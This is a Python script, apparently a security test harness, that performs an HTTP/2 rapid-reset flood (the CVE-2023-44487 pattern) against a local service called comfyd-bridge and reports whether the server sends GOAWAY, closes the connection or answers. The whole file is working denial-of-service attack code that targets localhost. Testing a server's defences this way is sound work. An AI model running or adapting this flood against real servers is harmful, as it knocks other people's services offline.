"""Rapid reset against comfyd-bridge over h2c (CVE-2023-44487 pattern): on one
connection, PAIRS requests each cancelled at once (HEADERS, DATA with
END_STREAM, RST_STREAM CANCEL), sent in batches without reading. Prints
"sent" once everything is written, then one JSON line with what the bridge
did: {"goaway": error code or null, "closed": bool, "responses": n}.

usage: h2_rapid_reset.py PORT TOKEN PATH BODIES_JSON PAIRS
BODIES_JSON is a JSON array of request bodies, used in turn.
Needs /usr/bin/python3 with python3-h2."""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events

port, token, path, pairs = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[5])
bodies = [json.dumps(b).encode() for b in json.loads(sys.argv[4])]
BATCH = 50
WAIT_S = 15

sock = socket.create_connection(("127.0.0.1", port), timeout=5)
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
# The bridge's SETTINGS and connection WINDOW_UPDATE first: the bodies need
# more than the default 64 KiB window.
settings = window = False
end = time.time() + WAIT_S
while not (settings and window) and time.time() < end:
    for e in conn.receive_data(sock.recv(65536)):
        settings = settings or isinstance(e, h2.events.RemoteSettingsChanged)
        window = window or (isinstance(e, h2.events.WindowUpdated) and e.stream_id == 0)
    sock.sendall(conn.data_to_send())
def headers(body):
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "127.0.0.1:%d" % port), ("authorization", "Bearer " + token),
            ("content-type", "application/json"), ("content-length", str(len(body)))]


sid = 1
n = 0
closed = False
for _ in range(0, pairs, BATCH):
    for _ in range(BATCH):
        body = bodies[n % len(bodies)]
        n += 1
        conn.send_headers(sid, headers(body))
        conn.send_data(sid, body, end_stream=True)
        conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        sid += 2
    try:
        sock.sendall(conn.data_to_send())
    except (BrokenPipeError, ConnectionResetError):
        closed = True
        break
print("sent", flush=True)

goaway = None
responses = 0
end = time.time() + WAIT_S
while not closed and time.time() < end:
    sock.settimeout(max(0.05, end - time.time()))
    try:
        data = sock.recv(65536)
    except socket.timeout:
        break
    except ConnectionResetError:
        closed = True
        break
    if not data:
        closed = True
        break
    try:
        events = conn.receive_data(data)
    except Exception:  # frames for streams h2 already forgot
        continue
    for e in events:
        if isinstance(e, h2.events.ConnectionTerminated):
            goaway = int(e.error_code)
        elif isinstance(e, h2.events.ResponseReceived):
            responses += 1
print(json.dumps({"goaway": goaway, "closed": closed, "responses": responses}), flush=True)
